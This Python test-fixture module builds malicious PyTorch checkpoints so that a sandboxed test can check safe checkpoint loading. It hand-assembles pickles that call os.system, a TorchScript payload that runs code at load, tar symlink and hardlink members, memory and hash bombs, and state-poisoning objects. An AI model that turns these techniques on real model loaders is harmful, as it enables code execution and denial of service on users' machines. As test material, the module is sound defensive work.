"""Malicious and malformed checkpoints: one file per attack on checkpoint
loading, written in the real formats (torch.save's zip, a TorchScript
archive, torch's legacy tar and non-zip formats, hand-assembled pickles).

Writing them runs nothing of them. They are loaded only by
``tests/checkpoint/sandbox_child.py``, in a subprocess with memory and time
limits, next to a marker file that a payload's code would create and a
watched file that a payload would change (:func:`write_all`).
"""
import io
import os
import os.path as osp
import struct
import tarfile
import zipfile
from typing import Callable, Dict, List, Tuple

import torch

#: what the TorchScript payload prints when its code runs
TORCHSCRIPT_SIGN = 'TORCHSCRIPT-CODE-RAN'
#: the environment a payload is loaded under, by payload name
PAYLOAD_ENV = {
    'trusted_alias_os_system': {
        'MMSAFE_TRUSTED_GLOBALS': 'mmengine.logging.logger.os.system'},
}


# ------------------------------------------------------------ assembler --
def op_global(module: str, name: str) -> bytes:
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def op_str(text: str) -> bytes:
    raw = text.encode('utf-8')
    return b'X' + struct.pack('<I', len(raw)) + raw


def op_bytes(raw: bytes) -> bytes:
    return b'B' + struct.pack('<I', len(raw)) + raw


def op_int(value: int) -> bytes:
    if -2**31 <= value < 2**31:
        return b'J' + struct.pack('<i', value)
    raw = value.to_bytes((value.bit_length() + 8) // 8, 'little',
                         signed=True)
    return b'\x8a' + bytes([len(raw)]) + raw


PROTO2 = b'\x80\x02'
MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b'(', b't', b'\x85', b'\x86', b'\x87'
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = b')', b'}', b']'
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX = b'R', b'b', b'\x81', b'\x92'
SETITEM, SETITEMS, STOP, NONE, POP = b's', b'u', b'.', b'N', b'0'
FALSE, TRUE, BINPERSID = b'\x89', b'\x88', b'Q'


def op_put(index: int) -> bytes:
    return b'r' + struct.pack('<I', index)


def op_get(index: int) -> bytes:
    return b'j' + struct.pack('<I', index)


def call(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)`` (each arg already assembled)."""
    return op_global(module, name) + MARK + b''.join(args) + TUPLE + REDUCE


def storage_pid(key: str, numel: int, kind: str = 'FloatStorage',
                location: str = 'cpu') -> bytes:
    return MARK + op_str('storage') + op_global('torch', kind) + \
        op_str(key) + op_str(location) + op_int(numel) + TUPLE + BINPERSID


def tensor(key: str, numel: int, hooks: bytes = None) -> bytes:
    """``_rebuild_tensor_v2`` of a 1-d float tensor of storage ``key``."""
    hooks = hooks if hooks is not None else \
        op_global('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE
    return op_global('torch._utils', '_rebuild_tensor_v2') + MARK + \
        storage_pid(key, numel) + op_int(0) + op_int(numel) + TUPLE1 + \
        op_int(1) + TUPLE1 + FALSE + hooks + TUPLE + REDUCE


def in_dict(*items: Tuple[str, bytes]) -> bytes:
    """A protocol-2 pickle of ``{key: value, ...}``."""
    body = b''.join(op_str(k) + v for k, v in items)
    return PROTO2 + EMPTY_DICT + MARK + body + SETITEMS + STOP


def write_zip(path: str, pickle_bytes: bytes,
              storages: Dict[str, bytes] = None, folder: str = 'archive',
              byteorder: bytes = b'little') -> str:
    """The zip container of torch.save with the given records."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr(f'{folder}/data.pkl', pickle_bytes)
        if byteorder is not None:
            archive.writestr(f'{folder}/byteorder', byteorder)
        for key, raw in (storages or {}).items():
            archive.writestr(f'{folder}/data/{key}', raw)
        archive.writestr(f'{folder}/version', b'3\n')
    return path


def _float_bytes(count: int) -> bytes:
    return torch.arange(float(count)).numpy().tobytes()


# --------------------------------------------------- TorchScript payload --
class LoudModule(torch.nn.Module):
    """A scripted module whose ``__setstate__`` prints
    :data:`TORCHSCRIPT_SIGN`: torch.load of torch < 2.6 runs it."""

    def __init__(self):
        super().__init__()
        self.w = torch.ones(1)

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        print('TORCHSCRIPT-CODE-RAN')
        self.w = state[0]
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.w


# ------------------------------------------------------------- payloads --
def _torchscript(path: str, marker: str, watched: str) -> None:
    torch.jit.save(torch.jit.script(LoudModule()), path)


def _tar(kind: bytes, to_watched: bool) -> Callable[[str, str, str], None]:
    """torch's legacy tar format: a ``storages`` member of ``kind`` (a hard
    link or symlink to the watched file, or a FIFO), mode 04777, owner
    nobody, mtime 1970: what torch < 2.6's loader extracts first."""
    def write(path: str, marker: str, watched: str) -> None:
        info = tarfile.TarInfo('storages')
        info.type, info.mode, info.mtime = kind, 0o4777, 0
        info.uid = info.gid = 65534
        info.linkname = watched if to_watched else ''
        with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as tar:
            tar.addfile(info)
    return write


def _newobj_ex(module: str, name: str, args: bytes, kwargs: bytes
               ) -> Callable[[str, str, str], None]:
    def write(path: str, marker: str, watched: str) -> None:
        write_zip(path, b'\x80\x04' + op_global(module, name) + args +
                  kwargs + NEWOBJ_EX + STOP)
    return write


def _kwargs(**values: int) -> bytes:
    return EMPTY_DICT + b''.join(op_str(k) + op_int(v) + SETITEM
                                 for k, v in values.items())


def _oversized_storage(byteorder: bytes) -> Callable[[str, str, str], None]:
    def write(path: str, marker: str, watched: str) -> None:
        # the pickle claims 2**24 floats; the record holds 4
        write_zip(path, in_dict(('w', tensor('0', 1 << 24))),
                  {'0': _float_bytes(4)}, byteorder=byteorder)
    return write


def _big_endian(path: str, marker: str, watched: str) -> None:
    write_zip(path, in_dict(('w', tensor('0', 4))), {'0': _float_bytes(4)},
              byteorder=b'big')


def _plain_pickle(body: bytes) -> Callable[[str, str, str], None]:
    def write(path: str, marker: str, watched: str) -> None:
        write_zip(path, PROTO2 + body + STOP)
    return write


def _legacy_huge(path: str, marker: str, watched: str) -> None:
    """torch's legacy format whose pickle claims 2**40 floats."""
    buffer = io.BytesIO()
    torch.save({'w': torch.ones(4)}, buffer,
               _use_new_zipfile_serialization=False)
    data = buffer.getvalue()
    # the persistent id ('storage', FloatStorage, key, 'cpu', 4, None):
    # its numel is BININT1 4 right after the location string
    at = data.index(b'X\x03\x00\x00\x00cpu')
    rest = data[at + 8:]
    if not rest.startswith(b'q'):
        raise AssertionError('unexpected legacy layout')
    put = rest[:2]
    assert rest[2:4] == b'K\x04', rest[:8]
    with open(path, 'wb') as f:
        f.write(data[:at + 8] + put + op_int(1 << 40) + rest[4:])


def _hash_bomb(path: str, marker: str, watched: str) -> None:
    """{t64: 1} where t_{i+1} = (t_i, t_i) through the memo: hashing the
    key visits 2**64 tuples."""
    body = EMPTY_DICT + EMPTY_TUPLE + op_put(0) + POP
    for i in range(64):
        body += op_get(i) + op_get(i) + TUPLE2 + op_put(i + 1) + POP
    write_zip(path, PROTO2 + body + op_get(64) + op_int(1) + SETITEM + STOP)


_HB = ('mmengine.logging.history_buffer', 'HistoryBuffer')


def _ndarray(values: bytes, count: int, code: str) -> bytes:
    """A numpy array as numpy pickles it (data given raw)."""
    return (call('numpy.core.multiarray', '_reconstruct',
                 op_global('numpy', 'ndarray'), op_int(0) + TUPLE1,
                 op_bytes(b'b')) +
            MARK + op_int(1) + op_int(count) + TUPLE1 +
            call('numpy', 'dtype', op_str(code), FALSE, TRUE) +
            MARK + op_int(3) + op_str('<') + NONE + NONE + NONE +
            op_int(-1) + op_int(-1) + op_int(0) + TUPLE + BUILD +
            FALSE + values + TUPLE + BUILD)


def _history_poison(path: str, marker: str, watched: str) -> None:
    """A HistoryBuffer whose statistics table maps 'mean' to max (its
    __setstate__ writes that into the class), then an untrusted object."""
    state = (EMPTY_DICT + MARK +
             op_str('max_length') + op_int(10) +
             op_str('_log_history') +
             _ndarray(op_bytes(struct.pack('<d', 1.0)), 1, 'f8') +
             op_str('_count_history') +
             _ndarray(op_bytes(struct.pack('<q', 1)), 1, 'i8') +
             op_str('statistics_methods') + EMPTY_DICT + op_str('mean') +
             call('__builtin__', 'getattr', op_global(*_HB), op_str('max')) +
             SETITEM + SETITEMS)
    buffer = op_global(*_HB) + EMPTY_TUPLE + NEWOBJ + state + BUILD
    evil = call('argparse', 'Namespace')
    write_zip(path, in_dict(('hub', buffer), ('evil', evil)))


def _object_array_newobj(path: str, marker: str, watched: str) -> None:
    dtype = op_global('numpy', 'dtype') + MARK + op_str('O8') + TUPLE + \
        NEWOBJ
    write_zip(path, in_dict(('a', dtype)))


def _object_array_reconstruct(path: str, marker: str, watched: str) -> None:
    write_zip(path, in_dict(('a', call(
        'numpy.core.multiarray', '_reconstruct',
        op_global('numpy', 'ndarray'), op_int(2) + TUPLE1, op_str('O')))))


def _object_array_list_state(path: str, marker: str, watched: str) -> None:
    import pickle

    import numpy as np
    raw = pickle.dumps({'a': np.array([1, 'text', None], dtype=object)},
                       protocol=2)
    write_zip(path, raw)


def _object_array_setstate(path: str, marker: str, watched: str) -> None:
    """_rebuild_from_type_v2(_reconstruct, ndarray, args, state): torch's
    own allowlist calls ndarray.__setstate__ with an object state."""
    state = (MARK + op_int(1) + op_int(2) + TUPLE1 +
             call('numpy', 'dtype', op_str('O8'), FALSE, TRUE) + FALSE +
             EMPTY_LIST + MARK + op_str('x') + op_int(1) + b'e' +
             TUPLE)
    write_zip(path, in_dict(('a', call(
        'torch._tensor', '_rebuild_from_type_v2',
        op_global('numpy.core.multiarray', '_reconstruct'),
        op_global('numpy', 'ndarray'),
        MARK + op_global('numpy', 'ndarray') + op_int(0) + TUPLE1 +
        op_bytes(b'b') + TUPLE, state))))


def _shadow_ordered_dict(path: str, marker: str, watched: str) -> None:
    shadow = EMPTY_DICT + MARK + op_str('items') + op_str('x') + \
        op_str('copy') + op_str('y') + SETITEMS
    write_zip(path, in_dict(('state_dict', op_global(
        'collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE + shadow +
        BUILD)))


def _shadow_tensor(path: str, marker: str, watched: str) -> None:
    shadow = EMPTY_DICT + MARK + op_str('cpu') + op_str('x') + \
        op_str('to') + op_str('y') + SETITEMS
    write_zip(path, in_dict(('w', tensor('0', 4) + shadow + BUILD)),
              {'0': _float_bytes(4)})


def _backward_hook(path: str, marker: str, watched: str) -> None:
    hooks = op_global('collections', 'OrderedDict') + EMPTY_TUPLE + \
        REDUCE + op_int(0) + call('__builtin__', 'getattr',
                                  op_global(*_HB), op_str('mean')) + SETITEM
    write_zip(path, in_dict(('w', tensor('0', 4, hooks=hooks))),
              {'0': _float_bytes(4)})


def _alias_os_system(path: str, marker: str, watched: str) -> None:
    write_zip(path, in_dict(('evil', call(
        'mmengine.logging.logger.os', 'system', op_str(f'touch {marker}')))))


def _fifo(path: str, marker: str, watched: str) -> None:
    """The checkpoint path itself is a FIFO: opening it for reading waits
    for a writer that never comes."""
    os.mkfifo(path)


def _os_system(path: str, marker: str, watched: str) -> None:
    write_zip(path, in_dict(('evil', call('posix', 'system',
                                          op_str(f'touch {marker}')))))


#: name -> (the issue's class of attack, writer(path, marker, watched))
PAYLOADS: Dict[str, Tuple[str, Callable[[str, str, str], None]]] = {
    'torchscript_setstate': ('TorchScript code at load', _torchscript),
    'tar_hardlink': ('legacy tar: files outside',
                     _tar(tarfile.LNKTYPE, True)),
    'tar_symlink': ('legacy tar: files outside',
                    _tar(tarfile.SYMTYPE, True)),
    'tar_fifo': ('legacy tar: hang', _tar(tarfile.FIFOTYPE, False)),
    'fifo_path': ('hang', _fifo),
    'newobj_ex_tensor_cdata': ('memory corruption', _newobj_ex(
        'torch', 'Tensor', EMPTY_TUPLE, _kwargs(cdata=4096))),
    'newobj_ex_storage_allocator': ('memory corruption', _newobj_ex(
        'torch', 'UntypedStorage', op_int(16) + TUPLE1,
        _kwargs(allocator=4096))),
    'storage_larger_than_record': ('memory corruption',
                                   _oversized_storage(b'little')),
    'big_endian_oversized': ('memory corruption', _oversized_storage(b'big')),
    'big_endian': ('memory corruption', _big_endian),
    'bytearray_size': ('bomb', _plain_pickle(call(
        '__builtin__', 'bytearray', op_int(1 << 40)))),
    'storage_call_size': ('bomb', _plain_pickle(call(
        'torch', 'FloatStorage', op_int(1 << 40)))),
    'tensor_call_size': ('bomb', _plain_pickle(call(
        'torch', 'Tensor', op_int(1 << 40)))),
    'ndarray_reconstruct_size': ('bomb', _plain_pickle(call(
        'numpy.core.multiarray', '_reconstruct',
        op_global('numpy', 'ndarray'), op_int(1 << 40) + TUPLE1,
        op_bytes(b'b')))),
    'legacy_sizes': ('bomb', _legacy_huge),
    'hash_bomb': ('hang', _hash_bomb),
    'history_buffer_poison': ('process poisoning', _history_poison),
    'object_array_newobj': ('non-data', _object_array_newobj),
    'object_array_reconstruct': ('non-data', _object_array_reconstruct),
    'object_array_list_state': ('non-data', _object_array_list_state),
    'object_array_setstate': ('non-data', _object_array_setstate),
    'shadow_ordered_dict': ('non-data', _shadow_ordered_dict),
    'shadow_tensor': ('non-data', _shadow_tensor),
    'backward_hook': ('non-data', _backward_hook),
    'trusted_alias_os_system': ('opt-in trust', _alias_os_system),
    'alias_os_system': ('opt-in trust', _alias_os_system),
    'os_system': ('code execution', _os_system),
}


def write_all(folder: str, names: List[str] = None) -> Dict[str, dict]:
    """Write the payloads into ``folder``; name -> dict(path, marker,
    watched, kind, env). Each payload gets its own marker path and watched
    file (mode 0600, mtime 2001-09-09, fixed content)."""
    os.makedirs(folder, exist_ok=True)
    found = {}
    for name in names or sorted(PAYLOADS):
        kind, write = PAYLOADS[name]
        marker = osp.join(folder, f'{name}.marker')
        watched = osp.join(folder, f'{name}.watched')
        with open(watched, 'w') as f:
            f.write('watched content\n')
        os.chmod(watched, 0o600)
        os.utime(watched, (1_000_000_000, 1_000_000_000))
        path = osp.join(folder, f'{name}.pth')
        write(path, marker, watched)
        found[name] = dict(path=path, marker=marker, watched=watched,
                           kind=kind, env=PAYLOAD_ENV.get(name, {}))
    return found


def watched_state(path: str) -> tuple:
    """What must not change of a watched file: mode, owner, mtime,
    content."""
    info = os.stat(path)
    with open(path, 'rb') as f:
        return (info.st_mode, info.st_uid, info.st_gid, info.st_mtime,
                f.read())
